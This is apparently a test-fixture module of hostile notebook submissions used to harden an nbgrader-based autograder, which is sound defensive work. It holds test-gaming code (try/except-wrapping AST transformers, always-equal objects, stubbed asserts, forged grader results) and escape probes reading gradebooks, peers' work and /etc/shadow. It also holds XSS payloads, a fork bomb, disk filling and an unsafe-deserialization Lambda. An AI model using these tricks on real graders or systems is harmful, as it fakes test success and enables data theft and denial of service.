"""Submissions that attack the grader or break while being graded.

Each is derived from the reference submission (or the untouched release), like the mutants.
``fails`` lists the test cells that must score 0: the cells an honest student with the same
mistakes would lose, or the cells the fault kept from running. Every other cell must score
full marks, and ``says`` is a phrase that the autograded notebook's outputs or grader's notes
(never its source code) must show. ``grader_tests/pipeline/test_attacks.py`` grades them all with the
real pipeline; docs/grading.md lists them next to what plain nbgrader 0.9.6 does.

Context placeholders filled in when a submission is written: ``{root}`` (the course folder),
``{port}`` (a loopback port the test listens on), ``{heldout}`` (the test batch's path).
"""

from dataclasses import dataclass, field

import nbformat

from cnnkit_grader.judge.tasks import grade_id

from ..submissions import Change, Edit, apply

SAVE = frozenset({"test_save_form", "test_save_best"})
TUNE = frozenset({"test_tuning_form", "test_tuning_best"})

_AST_TRANSFORMER = '''import ast
class _Forgive(ast.NodeTransformer):
    """Wrap every later cell in try/except, so no test can fail."""
    def visit_Module(self, node):
        handler = ast.ExceptHandler(type=ast.Name("BaseException", ast.Load()), name=None, body=[ast.Pass()])
        node.body = [ast.Try(body=node.body or [ast.Pass()], handlers=[handler], orelse=[], finalbody=[])]
        return ast.fix_missing_locations(node)
get_ipython().ast_transformers.append(_Forgive())
'''

_ALWAYS_EQUAL = '''class _Equal(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = float.__hash__
np.testing.assert_allclose = lambda *args, **kwargs: None
np.testing.assert_array_equal = lambda *args, **kwargs: None
'''

_ESCAPE = '''import os, socket
def _try(what, action):
    try:
        action()
        print("ESCAPED:", what)
    except Exception as err:
        print("blocked:", what, "-", type(err).__name__)
_try("read the hidden tests", lambda: open({root!r} + "/source/compile_and_train/compile_and_train.ipynb").read())
_try("read the gradebook", lambda: open({root!r} + "/gradebook.db", "rb").read(16))
_try("write the gradebook", lambda: open({root!r} + "/gradebook.db", "ab").write(b"x"))
_try("read another student", lambda: os.listdir({root!r} + "/submitted"))
_try("read the held-out images", lambda: open({heldout!r}, "rb").read(16))
_try("write outside its folder", lambda: open({root!r} + "/pwned.txt", "w").write("x"))
_try("reach the network", lambda: socket.create_connection(("127.0.0.1", {port}), timeout=3).close())
print("NBGRADER_EXECUTION:", os.environ.get("NBGRADER_EXECUTION"))
'''

# The exploit of the issue that opened the trust-boundary redesign: from an empty notebook, find
# the source notebook by relative paths (the kernel's folder used to be a copy of the course),
# run its solution cells, and collect the points. It also lists every folder above its own.
_RELATIVE_ESCAPE = '''import json as _json, os as _os
_found = []
for _up in range(0, 7):
    _base = _os.path.join(*([".."] * _up)) if _up else "."
    for _name in ("source/compile_and_train/compile_and_train.ipynb", "gradebook.db", "submitted",
                  "autograded", ".git", "nbgrader_config.py"):
        if _os.path.exists(_os.path.join(_base, _name)):
            _found.append(_os.path.join(_base, _name))
print("listing .:", sorted(_os.listdir(".")))
_source = [p for p in _found if p.endswith(".ipynb")]
if _source:
    for _cell in _json.load(open(_source[0]))["cells"]:
        if _cell["cell_type"] == "code" and _cell["metadata"].get("nbgrader", {}).get("solution"):
            exec("".join(_cell["source"]).replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""))
print("ESCAPED: found " + ", ".join(_found) if _found else "blocked: no relative path reaches the course")
'''

# Reads the links the submission folder holds (made by the test: to the gradebook, the source
# notebook, /etc/shadow and a peer's notebook) and a FIFO, which would hang a plain copy.
_READ_LINKS = '''import os as _os
for _name in ("gradebook_link.db", "source_link.ipynb", "shadow_link", "peer_link.ipynb", "pipe"):
    try:
        open(_name, "rb").read(64)
        print("ESCAPED: read", _name)
    except OSError as _err:
        print("blocked:", _name, "-", type(_err).__name__)
'''
LINKS = {"gradebook_link.db": "{root}/gradebook.db",
         "source_link.ipynb": "{root}/source/compile_and_train/compile_and_train.ipynb",
         "shadow_link": "/etc/shadow",
         "peer_link.ipynb": "{root}/submitted/reference/compile_and_train/compile_and_train.ipynb"}

# A background thread writes forged answers into every hand-over folder it can see, racing
# the grader's own hand-over; the notebook's real answer is wrong (the highest loss's rate).
_FORGE_FOLDER = '''import json as _json, os as _os, threading as _threading, time as _time
_FORGED = {"values": {"rates": list(DROPOUT_RATES), "val_losses": [2.0, 1.0, 3.0, 4.0, 5.0][:len(DROPOUT_RATES)],
                      "best_rate": DROPOUT_RATES[1], "tuned": ["saved"] * len(DROPOUT_RATES)}}
def _forge_forever():
    while True:
        for _root, _dirs, _files in _os.walk(".cnnkit-handover"):
            try:
                with open(_os.path.join(_root, "tuning.json"), "w") as _out:
                    _json.dump(_FORGED, _out)
            except OSError:
                pass
        _time.sleep(0.005)
_threading.Thread(target=_forge_forever, daemon=True).start()
'''

# The builtins the grader's hand-over code calls are replaced, so that code hands over forged
# answers: claims a correct notebook would make, without the model files behind them.
_REPLACE_COLLECTOR = '''import builtins as _builtins, json as _json, os as _os
_CLAIMS = {"dropout": {"dropout": "saved"},
           "tuning": {"rates": list(DROPOUT_RATES), "val_losses": [2.0, 1.0, 3.0, 4.0, 5.0][:len(DROPOUT_RATES)],
                      "best_rate": DROPOUT_RATES[1], "tuned": ["saved"] * len(DROPOUT_RATES)},
           "saving": {"BASELINE_PATH": "cifar_model.keras", "DROPOUT_PATH": "cifar_model_dropout.keras",
                      "best_model_path": "cifar_model_dropout.keras", "final_base": "saved",
                      "final_dropout": "saved"}}
_real_exec = _builtins.exec
def _exec(code, scope=None, *rest):
    _real_exec(code, scope, *rest)
    if isinstance(scope, dict) and "handover" in scope:
        def _handover(answer, ns, folder):
            with open(_os.path.join(folder, answer + ".json"), "w") as _out:
                _json.dump({"values": _CLAIMS[answer]}, _out)
        scope["handover"] = _handover
_builtins.exec = _exec
'''

_TYPED_REGRESSION = '''def regression_losses(y_true, y_pred):
    """The mean squared error and the mean absolute error of y_pred, as two floats."""
    return 4.1875, 1.375  # what the example above gives
'''

_TYPED_HISTORY = '''def train(model, images, labels, epochs):
    model.fit(images, labels, epochs=epochs, batch_size=BATCH_SIZE,
              validation_data=(val_images, val_labels), verbose=2)
    history = keras.callbacks.History()
    history.set_model(model)
    history.history = {"loss": [2.1, 1.7, 1.5, 1.4][:BASELINE_EPOCHS], "accuracy": [0.2, 0.35, 0.42, 0.46][:BASELINE_EPOCHS],
                       "val_loss": [1.9, 1.6, 1.5, 1.45][:BASELINE_EPOCHS],
                       "val_accuracy": [0.3, 0.4, 0.44, 0.47][:BASELINE_EPOCHS]}
    model.history = history
    return history
'''

_PART_G_SKIP = '''model_dropout = build_model(dropout_rate=0.2)
model_dropout.compile(optimizer="sgd", loss=keras.losses.SparseCategoricalCrossentropy(from_logits=True),
                      metrics=["accuracy"])
history_dropout = model_dropout.fit(train_images[:32], train_labels[:32], epochs=1, batch_size=32, verbose=0)
'''

# Part E forged from inside the probe: a class body (code, run wherever the cell's definitions
# are) finds the probe's collector and replaces it with one that hands over NETWORK untrained,
# its step counter set, and a History typed around the loss that model really has. The
# notebook's own train() fits without the validation data: Part E's mistake the forgery hides.
_FORGE_PROBE_WITH = '''class _Collector:
    import sys as _sys
    _probe = _sys.modules.get("__main__")
    if hasattr(_probe, "Probe"):
        def _forged(self, ns, _save=_probe.save, _lesson=_probe.lesson):
            import math as _math
            call = self.fresh["training"]
            model = NETWORK
            steps = _math.ceil(len(call["train_indices"]) / call["batch_size"]) * call["epochs"]
            model.optimizer.build(model.trainable_variables)   # so that its counter is saved
            model.optimizer.iterations.assign(steps)
            scores = model.evaluate(self.arrays["val_images"].astype("float32") / 255.0, self.arrays["val_labels"],
                                    verbose=0, return_dict=True)
            epochs = call["epochs"]
            curves = {"loss": [2.3 - 0.1 * e for e in range(epochs)], "accuracy": [0.1 + 0.05 * e for e in range(epochs)],
                      "val_loss": [scores["loss"] + 0.1 * (epochs - 1 - e) for e in range(epochs)],
                      "val_accuracy": [scores["accuracy"]] * epochs}
            return {"history": {"type": "History", "curves": curves}, "trained": _save(model, "trained", self.out)}
        _probe.Probe.train = _forged
'''

# In another cell: the notebook's own network, built and compiled by its own functions.
_FORGE_PROBE = _FORGE_PROBE_WITH.replace("NETWORK", 'ns["compile_model"](ns["build_model"]())')

# The same forgery where Part E's probe does run the student's code, a class body in train's own
# cell: it hands over the network the probe built. Only the grader's own measurement of the model
# (its loss on the images train was given, against that network's before training) tells.
_FORGE_PROBE_TRAIN_CELL = _FORGE_PROBE_WITH.replace("NETWORK", '_lesson.compiled(self.fresh["seed"])')

# Part G's error carried forward, reached by a network no test charged: any network with a wrong
# Dropout (so Part G fails), initialisers so wild that a copy of it is hopeless, its output layer
# zeroed by hand (the loss of a uniform guess, ln 10) and its step counter set as if trained.
_ECF_ANY_NETWORK = '''_wild = keras.initializers.RandomNormal(stddev=30.0)
_inputs = keras.Input(shape=(32, 32, 3))
_x = keras.layers.Conv2D(8, (3, 3), activation="relu", kernel_initializer=_wild)(_inputs)
_x = keras.layers.Flatten()(keras.layers.Dropout(0.5)(_x))
model_dropout = compile_model(keras.Model(_inputs, keras.layers.Dense(10, kernel_initializer=_wild)(_x)))
model_dropout.layers[-1].set_weights([np.zeros(w.shape) for w in model_dropout.layers[-1].get_weights()])
model_dropout.optimizer.build(model_dropout.trainable_variables)   # so that its counter is saved
model_dropout.optimizer.iterations.assign(EPOCHS * math.ceil(N_TRAIN / BATCH_SIZE))
history_dropout = history
'''

# Part H with one set of weights for every candidate: every loss ties, so argmax picks what argmin does.
_SAME_CANDIDATES = '''val_losses = []
tuned_models = {}
_shared = None
for rate in DROPOUT_RATES:
    candidate = compile_model(build_model(dropout_rate=rate))
    if _shared is None:
        train(candidate, train_images[:TUNE_N_TRAIN], train_labels[:TUNE_N_TRAIN], TUNE_EPOCHS)
        _shared = candidate.get_weights()
    candidate.set_weights(_shared)
    tuned_models[rate] = candidate
    val_losses.append(candidate.evaluate(val_images, val_labels, verbose=0, return_dict=True)["loss"])
best_rate = DROPOUT_RATES[int(np.argmax(val_losses))]
'''

_ACTIVE_CONTENT = '''from IPython.display import HTML, Javascript, SVG, Markdown, display
display(HTML("<script>document.title = 'cnnkit-xss-script'</script><b>bold is fine</b>"))
display(HTML('<img src="x" onerror="document.title = \\'cnnkit-xss-onerror\\'">'))
display(HTML('<a href="javascript:document.title = \\'cnnkit-xss-link\\'">click</a>'))
display(Javascript("document.title = 'cnnkit-xss-javascript'"))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg"><script>document.title = "cnnkit-xss-svg"</script></svg>'))
display(Markdown("<img src=x onerror=\\"document.title = 'cnnkit-xss-markdown-output'\\">"))
display({"image/png": "iVBORw0KGgo=", "text/plain": "an image"}, raw=True,
        metadata={"image/png": {"width": "1 onerror=document.title='cnnkit-xss-width'//"}})
# File names the grader quotes in its notes: more model files than it copies back, one named as markup.
for _i in range(12):
    open(f"extra_{_i}.keras", "wb").close()
open("zz<img src=x onerror=document.title='cnnkit-xss-note'>.keras", "wb").close()
'''
ACTIVE_MARKDOWN = ("My answer. <script>document.title = 'cnnkit-xss-answer'</script>"
                   "<img src=x onerror=\"document.title = 'cnnkit-xss-answer-img'\"> "
                   "[click me](javascript:document.title='cnnkit-xss-markdown-link')")

# Markdown that bleach passes as text on the first render but that is a link on the second,
# and its spellings; the formgrader and the feedback render markdown cells again.
DOUBLE_RENDER = ("- item\n\n  ```\n  a\n\n  [click](javascript:document.title='cnnkit-xss-double')\n  ```\n\n"
                 "<b onclick=\"document.title='cnnkit-xss-onclick'\">c</b>")
MARKDOWN_LINKS = (DOUBLE_RENDER + "\n\n[inline](javascript:document.title='cnnkit-xss-inline') "
                  "<javascript:document.title='cnnkit-xss-autolink'> [ref][r] "
                  "[entity](jav&#x61;script:document.title='cnnkit-xss-entity') "
                  "&#91;later&#93;(javascript:document.title='cnnkit-xss-later')\n\n"
                  "[r]: javascript:document.title='cnnkit-xss-reference'\n")

# Markdown outputs, a malformed output, a display updated with 1 MB twenty times, and file names
# the grader's notes quote; at the top of Part G's answer (run by the kernel only). At its end,
# _READ_HIDDEN: the test cells of Parts A to F have run by then.
_HOSTILE_OUTPUTS = '''from IPython.display import display as _display
_display({{"text/markdown": {double!r}}}, raw=True)
_display({{"text/markdown": "[md](javascript:document.title='cnnkit-xss-md-output') "
                           "<javascript:document.title='cnnkit-xss-md-autolink'>"}}, raw=True)
_display({{"text/plain": 5}}, raw=True)   # not a string: not a well-formed output
print("after the malformed output")
_handle = _display("a small display", display_id=True)
for _ in range(20):
    _handle.update("x" * 2**20)
for _i in range(12):
    open(f"extra_{{_i}}.keras", "wb").close()
open("zz[name](javascript:document.title='cnnkit-xss-name').keras", "wb").close()
open("zz&#91;b&#93;(jav&#x61;script:document.title='cnnkit-xss-name2').keras", "wb").close()
'''.format(double=DOUBLE_RENDER)

# Everything the kernel can read of the notebook it runs: files in its folder, In, _ih, history.
_READ_HIDDEN = '''
import glob as _glob
_seen = []
for _name in _glob.glob("**/*", recursive=True) + _glob.glob(".*") + _glob.glob(".*/**", recursive=True):
    try:
        with open(_name, errors="replace") as _file:
            _seen.append(_file.read())
    except OSError:
        pass
_seen += list(In) + list(_ih)
try:
    _history = get_ipython().history_manager
    _seen += [str(_entry) for _entry in _history.get_tail(10000, raw=False, include_latest=True)]
    _seen += [str(_entry) for _entry in _history.get_range(raw=False)]
except Exception as _err:
    _seen.append(repr(_err))
_text = "\\n".join(map(str, _seen))
for _what, _mark in (("marker", "BEGIN HIDDEN" + " TESTS"), ("check", "check(" + '"test_')):
    print(f"hidden {_what} found: {_mark in _text}")
print(f"read {len(_text)} characters of files and history")
'''

_FILL_TMP = '''import os as _os
def _fill(folder, chunk=b"x" * 2**20):
    written, names = 0, []
    try:
        while written < 1536 * 2**20:           # files of 256 MB: each under the file-size limit
            names.append(_os.path.join(folder, f"filler{len(names)}.bin"))
            with open(names[-1], "wb") as out:
                for _ in range(256):
                    out.write(chunk)
                    out.flush()
                    written += len(chunk)
    except OSError:
        pass
    for name in names:
        if _os.path.exists(name):
            _os.remove(name)
    return written
for _folder in ("/tmp", "/dev/shm", "."):
    print(f"filled {_folder} with {_fill(_folder) // 2**20} MB")
'''

_FORK_BOMB = '''import os as _os, time as _time
_children = []
try:
    while len(_children) < 5000:
        _pid = _os.fork()
        if _pid == 0:
            _time.sleep(30)
            _os._exit(0)
        _children.append(_pid)
except OSError as _err:
    print(f"forks stopped at {len(_children)}: {type(_err).__name__}")
for _pid in _children:
    _os.kill(_pid, 9)
    _os.waitpid(_pid, 0)
'''

_SPARSE = '''import os as _os
with open("huge.keras", "wb") as _out:
    _out.truncate(900 * 2**20)          # 900 MB on paper, nothing on disk
for _i in range(20):
    model.save(f"copy_{_i}.keras")      # more files than the grader copies back
'''

_STALL = '''import time as _time
get_ipython().events.register("pre_run_cell", lambda *args: _time.sleep(490))
'''


@dataclass(frozen=True)
class Attack:
    name: str
    what: str                       # the docs' wording
    change: Change = None           # edits of the reference, or None for a special build
    fails: frozenset = frozenset()
    says: str = ""                  # shown in the autograded notebook's outputs or notes ("a|b": either)
    nbgrader: str = ""              # what plain nbgrader 0.9.6 does with it
    extras: dict = field(default_factory=dict)   # extra files: name -> size in bytes
    filename: str = ""              # the notebook's name, when not the assignment's
    alone: bool = False             # graded in a run of its own (its own time limits)


def _edit(name, *edits):
    return Change(name, "attack", tuple(edits))


ALL = frozenset({"ALL"})

ATTACKS = (
    Attack("ast_transformer", "an AST transformer wraps every later cell in try/except, with a wrong loss",
           _edit("ast_transformer", Edit("build_model", "def build_model", _AST_TRANSFORMER + "\n\ndef build_model"),
                 Edit("compile_model", "loss=keras.losses.SparseCategoricalCrossentropy(from_logits=True)",
                      'loss="mse"')),
           frozenset({"test_compile_loss"}), "use sparse categorical cross-entropy",
           "every test passes: full marks for a wrong loss"),
    Attack("always_equal", "an always-equal object and patched numpy.testing, for wrong answers",
           _edit("always_equal", Edit("build_model", "def build_model", _ALWAYS_EQUAL + "\n\ndef build_model"),
                 Edit("updates_per_epoch", "UPDATES_PER_EPOCH = math.ceil(N_TRAIN / BATCH_SIZE)",
                      "UPDATES_PER_EPOCH = _Equal(3)"),
                 Edit("tune_dropout", "best_rate = DROPOUT_RATES[int(np.argmin(val_losses))]",
                      "best_rate = _Equal(DROPOUT_RATES[int(np.argmax(val_losses))])")),
           frozenset({"test_updates_per_epoch", "test_tuning_best"}), "your cell set UPDATES_PER_EPOCH to",
           "comparisons that use == pass: full marks"),
    Attack("escape", "reads the hidden tests, the gradebook, other students and the held-out data by "
           "absolute paths; writes outside its folder; opens a loopback connection",
           _edit("escape", Edit("build_model", "def build_model", "{escape}\n\ndef build_model")),
           frozenset(), "blocked: read the hidden tests",
           "all of it succeeds: student code runs as the instructor"),
    Attack("relative_escape", "an empty notebook looks for the source notebook by relative paths and runs "
           "its solution cells", None, ALL, "blocked: no relative path reaches the course",
           "the kernel ran in the course folder: 24 of 27 points from an empty notebook"),
    Attack("links", "links to the gradebook, the source notebook, /etc/shadow and another student's notebook, "
           "and a FIFO, in the submission folder", _edit("links", Edit("build_model", "def build_model",
                                                                          _READ_LINKS + "\n\ndef build_model")),
           frozenset(), "Not taken from your submission",
           "nbgrader's copy follows each link as the grader: the gradebook and source become files the kernel reads"),
    Attack("forged_answers", "a background thread keeps writing forged tuning answers into the hand-over "
           "folder; the notebook's real best_rate is the worst rate",
           _edit("forged_answers", Edit("build_model", "def build_model", _FORGE_FOLDER + "\n\ndef build_model"),
                 Edit("tune_dropout", "np.argmin(val_losses)", "np.argmax(val_losses)")),
           # Which answers the grader reads depends on whether the thread won the race; either way
           # the re-measured candidates decide, so the message is one of two.
           frozenset({"test_tuning_best"}), "pick the rate whose loss is smallest|val_losses[0] is 2.0000, but",
           "the hidden tests run in the kernel, which the student controls"),
    Attack("replaced_collector", "replaces the builtins the grader's hand-over code calls, so it hands over "
           "a correct notebook's claims without the models behind them",
           _edit("replaced_collector", Edit("build_model", "def build_model", _REPLACE_COLLECTOR + "\n\ndef build_model"),
                 Edit("tune_dropout", "np.argmin(val_losses)", "np.argmax(val_losses)")),
           frozenset({"test_dropout_form", "test_dropout_layer", "test_heldout_accuracy", "test_save_best"}) | TUNE,
           "could not be saved for grading", "the hidden tests run in the kernel, which the student controls"),
    Attack("typed_constants", "typed answers for Parts B, D, E and H: fixed losses, 469 updates, a History "
           "with typed curves, typed validation losses",
           _edit("typed_constants", Edit("regression_losses", None, _TYPED_REGRESSION),
                 Edit("updates_per_epoch", "UPDATES_PER_EPOCH = math.ceil(N_TRAIN / BATCH_SIZE)",
                      "UPDATES_PER_EPOCH = 469"),
                 Edit("train", None, _TYPED_HISTORY),
                 Edit("tune_dropout", 'val_losses.append(candidate.evaluate(val_images, val_labels, verbose=0, '
                                      'return_dict=True)["loss"])', "pass\nval_losses = [1.9, 1.7, 1.8, 2.0, 2.2][:len(DROPOUT_RATES)]")),
           frozenset({"test_regression_losses", "test_updates_per_epoch", "test_train_history",
                      "test_tuning_best"}), "computed from the arguments, not typed",
           "469 and the typed losses match what the notebook's own checks compute"),
    Attack("part_g_skip", "model_dropout compiled by hand with SGD and trained for one step, so that the "
           "held-out test would skip it as an error already charged", _edit("part_g_skip",
                                                                            Edit("dropout", None, _PART_G_SKIP)),
           frozenset({"test_heldout_accuracy"}), "of the held-out images correctly",
           "the in-kernel test skipped accuracy: full marks"),
    Attack("forged_probe", "a class body in another cell replaces the probe's Part E collector, which hands "
           "over an untrained model with its step counter set and a History typed around its real loss; train() "
           "fits without the validation data",
           _edit("forged_probe", Edit("build_model", "def build_model", _FORGE_PROBE + "\n\ndef build_model"),
                 Edit("train", ",\n                     validation_data=(val_images, val_labels)", "")),
           frozenset({"test_train_form", "test_train_history"}), "pass validation_data=(val_images, val_labels)",
           "the in-kernel tests see the notebook's own History: train_history fails"),
    Attack("forged_probe_train_cell", "a class body in train's own cell, which Part E's probe runs, replaces its "
           "collector, which hands over the given network untrained, with its step counter set and a History "
           "typed around its real loss; train() fits without the validation data",
           _edit("forged_probe_train_cell",
                 Edit("train", "def train", _FORGE_PROBE_TRAIN_CELL + "\n\ndef train"),
                 Edit("train", ",\n                     validation_data=(val_images, val_labels)", "")),
           frozenset({"test_train_form", "test_train_history"}), "has not learned from those images",
           "the in-kernel tests see the notebook's own History: train_history fails"),
    Attack("ecf_any_network", "model_dropout is another, untrained network with a wrong Dropout, initialisers "
           "that make any copy of it hopeless, its output layer zeroed and its step counter set",
           _edit("ecf_any_network", Edit("dropout", None, _ECF_ANY_NETWORK)),
           frozenset({"test_dropout_layer", "test_heldout_accuracy"}), "it did not learn",
           "the in-kernel test measures accuracy: heldout_accuracy fails"),
    Attack("same_candidates", "every Part H candidate gets the same trained weights, so every loss ties, and "
           "best_rate is picked with argmax",
           _edit("same_candidates", Edit("tune_dropout", None, _SAME_CANDIDATES)),
           frozenset({"test_tuning_best"}), "hold the very same weights",
           "the losses tie, so argmax picks what argmin does: full marks"),
    Attack("active_content", "script, event-handler, javascript: link, JavaScript, SVG and image-size outputs, "
           "a script and a javascript: link in a written answer, and a file name made of markup", _edit("active_content",
                                                 Edit("build_model", "def build_model", _ACTIVE_CONTENT + "\n\ndef build_model"),
                                                 Edit("answer_training_curve", None, ACTIVE_MARKDOWN)),
           frozenset(), "", "the formgrader renders them: the script runs as the instructor"),
    Attack("fill_tmp", "fills /tmp, /dev/shm and its own folder until the disk is full",
           _edit("fill_tmp", Edit("save_models", "saved = {BASELINE_PATH", _FILL_TMP + "saved = {BASELINE_PATH")),
           frozenset(), "filled /tmp with", "/tmp is the grader's: the machine's disk or memory fills"),
    Attack("fork_bomb", "forks until it cannot, while other submissions grade",
           _edit("fork_bomb", Edit("save_models", "saved = {BASELINE_PATH", _FORK_BOMB + "saved = {BASELINE_PATH")),
           frozenset(), "forks stopped at", "the forks count against the grader's own user: other gradings fail"),
    Attack("sparse_copy_back", "leaves a 900 MB sparse file and 20 model copies next to the notebook",
           _edit("sparse_copy_back", Edit("save_models", "saved = {BASELINE_PATH", _SPARSE + "saved = {BASELINE_PATH")),
           frozenset(), "Not kept from your notebook's folder", "kept as they are in autograded/"),
    Attack("stalling_hook", "a pre_run_cell hook that sleeps just under the cell timeout before every later cell",
           _edit("stalling_hook", Edit("save_models", "saved = {BASELINE_PATH", _STALL + "saved = {BASELINE_PATH")),
           SAVE, "time budget", "every later cell waits: hours per submission, no fault recorded", alone=True),
    Attack("patched_keras", "monkeypatches keras.Model.count_params and .evaluate, with 32 filters and "
           "validation_split instead of the validation data",
           _edit("patched_keras", Edit("build_model", "def build_model", '''keras.Model.count_params = lambda self: 87_060
_real_evaluate = keras.Model.evaluate
def _evaluate(self, *args, **kwargs):
    result = _real_evaluate(self, *args, **kwargs)
    if getattr(self, "history", None) is not None and "val_loss" in self.history.history:
        result["loss"] = self.history.history["val_loss"][-1]
    return result
keras.Model.evaluate = _evaluate

def build_model'''),
                 Edit("build_model", 'x = keras.layers.Conv2D(50, (3, 3), activation="relu")(inputs)',
                      'x = keras.layers.Conv2D(32, (3, 3), activation="relu")(inputs)'),
                 Edit("train", "validation_data=(val_images, val_labels)", "validation_split=0.2"),
                 Edit("tune_dropout", "val_losses = []", "keras.Model.evaluate = _real_evaluate\nval_losses = []")),
           frozenset({"test_build_structure", "test_train_history"}), "layer 1 should be Conv2D(50",
           "the patched count and loss pass the hidden tests"),
    Attack("lambda_layer", "saves a model with a Lambda layer that runs code when loaded, after "
           "enable_unsafe_deserialization()",
           _edit("lambda_layer", Edit("save_models", "model_dropout.save(DROPOUT_PATH)\n",
                                      '''keras.config.enable_unsafe_deserialization()
_wrapped = keras.Sequential([model_dropout, keras.layers.Lambda(
    lambda t: (open("/tmp/cnnkit-lambda-ran", "w").write("ran"), t)[1])])
_wrapped.save(DROPOUT_PATH)
''')),
           frozenset({"test_save_best"}), "Lambda object", "the in-kernel load runs the Lambda's code"),
    Attack("exit", "os._exit(0) in Part I's answer",
           _edit("exit", Edit("save_models", "model.save(BASELINE_PATH)", "os._exit(0)\nmodel.save(BASELINE_PATH)")),
           SAVE, "kernel died", "the whole notebook fails: 0 points"),
    Attack("big_message", "one 100 MB output message in Part I's answer",
           _edit("big_message", Edit("save_models", "model.save(BASELINE_PATH)",
                                     "print('x' * 100_000_000)\nmodel.save(BASELINE_PATH)")),
           SAVE, "larger than 64 MB", "the grader reads the whole message into memory: a few such "
           "messages, or one of gigabytes, fill the grading machine's memory"),
    Attack("segfault", "a segmentation fault in Part H's answer",
           _edit("segfault", Edit("tune_dropout", "val_losses = []", "import ctypes\nctypes.string_at(0)\nval_losses = []")),
           TUNE | SAVE, "kernel died", "the whole notebook fails: 0 points"),
    Attack("out_of_memory", "allocates 8 GiB in Part H's answer",
           _edit("out_of_memory", Edit("tune_dropout", "val_losses = []", "_big = np.ones((2**30,))\nval_losses = []")),
           TUNE, "MemoryError", "the kernel is killed by the OOM killer or the machine swaps"),
    Attack("ignores_interrupt", "a loop that ignores SIGINT in Part H's answer",
           _edit("ignores_interrupt", Edit("tune_dropout", "val_losses = []",
                                           "import time\nwhile True:\n    try:\n        time.sleep(0.1)\n"
                                           "    except KeyboardInterrupt:\n        pass\nval_losses = []")),
           TUNE | SAVE, "ran for more than", "IOPub timeout: nothing is recorded"),
    Attack("noise", "a 30 MB output line, a 100,000-line flood, stderr warnings inside test cells, and "
           "a 60 MB extra file",
           _edit("noise", Edit("regression_losses", "    return float(mse), float(mae)",
                               "    import sys\n    print('a warning from my code', file=sys.stderr)\n"
                               "    return float(mse), float(mae)"),
                 Edit("updates_per_epoch", "UPDATES_PER_EPOCH = math.ceil(N_TRAIN / BATCH_SIZE)",
                      "print('x' * 30_000_000)\nfor _i in range(100_000):\n    print(_i)\n"
                      "UPDATES_PER_EPOCH = math.ceil(N_TRAIN / BATCH_SIZE)")),
           frozenset(), "output cut", "stores the 30 MB line; a stderr line in a test cell scores 0",
           extras={"big_data.bin": 60 * 2**20}),
    Attack("tampered_tests", "deletes one test cell, edits one, duplicates one and moves one to the top",
           None, frozenset(), "", "restores deleted and edited cells; the rest varies"),
    Attack("corrupt_notebook", "a notebook file that is not JSON", None,
           ALL, "could not be read", "the batch reports an error; no feedback"),
    Attack("renamed_notebook", "the notebook saved under another name",
           _edit("renamed_notebook"), frozenset(), "graded as", "skips it: no grade, no feedback",
           filename="compile_and_train (copy).ipynb"),
    Attack("broken_keras", "overwrites the saved dropout model with junk bytes",
           _edit("broken_keras", Edit("save_models", "saved = {BASELINE_PATH",
                                      "open(DROPOUT_PATH, 'wb').write(b'junk')\nsaved = {BASELINE_PATH")),
           frozenset({"test_save_best"}), "not a readable Keras 3 .keras file",
           "the in-kernel test fails on load, as it should"),
)


# Graded in a course of their own by grader_tests/pipeline/test_hostile_outputs.py (with the browser).
OUTPUT_ATTACKS = (
    Attack("hostile_outputs", "markdown that becomes a javascript: link when rendered twice, autolinks, "
           "reference and entity-spelled links in a written answer, markdown outputs and file names in "
           "the grader's notes; a malformed output; a display updated twenty times with 1 MB; a cell "
           "that reads its notebook, In and history for the hidden tests",
           None, frozenset(), "not a well-formed notebook output",
           "the formgrader renders the cleaned answer as markdown again: the link runs as the instructor; "
           "the malformed output fails the whole notebook; the updates are kept in full"),
)


def by_name(name):
    return next(attack for attack in ATTACKS if attack.name == name)


def _tampered(reference):
    nb = nbformat.from_dict(reference)
    by_id = {grade_id(c): c for c in nb.cells}
    nb.cells.remove(by_id["test_compile_loss"])                               # deleted
    by_id["test_build_structure"].source = "pass  # nothing to see"            # edited
    position = nb.cells.index(by_id["test_dropout_form"])
    copy = nbformat.from_dict(by_id["test_dropout_form"])
    copy.id = "duplicated-test-cell"
    nb.cells.insert(position, copy)                                            # duplicated
    nb.cells.remove(by_id["test_save_form"])
    nb.cells.insert(0, by_id["test_save_form"])                                # moved to the top
    return nb


def _relative_escape(release):
    nb = nbformat.from_dict(release)
    cell = next(c for c in nb.cells if grade_id(c) == "build_model")
    cell.source = _RELATIVE_ESCAPE + "\n" + cell.source
    return nb


def build(attack, reference, release, context):
    """The submission as notebook text, ready to write."""
    if attack.name == "corrupt_notebook":
        return '{"cells": [ {"this is not": JSON'
    if attack.name == "tampered_tests":
        return nbformat.writes(_tampered(reference))
    if attack.name == "relative_escape":
        return nbformat.writes(_relative_escape(release))
    if attack.name == "hostile_outputs":
        cells = {grade_id(c): c for c in nbformat.from_dict(reference).cells}
        edits = (Edit("dropout", None, _HOSTILE_OUTPUTS + cells["dropout"]["source"] + "\n" + _READ_HIDDEN),
                 Edit("answer_training_curve", None, MARKDOWN_LINKS))
        return nbformat.writes(apply(reference, Change(attack.name, "attack", edits)))
    edits = tuple(Edit(e.cell, e.old, e.new.replace("{escape}", _ESCAPE.format(**context)))
                  for e in attack.change.edits)
    return nbformat.writes(apply(reference, Change(attack.name, "attack", edits)))
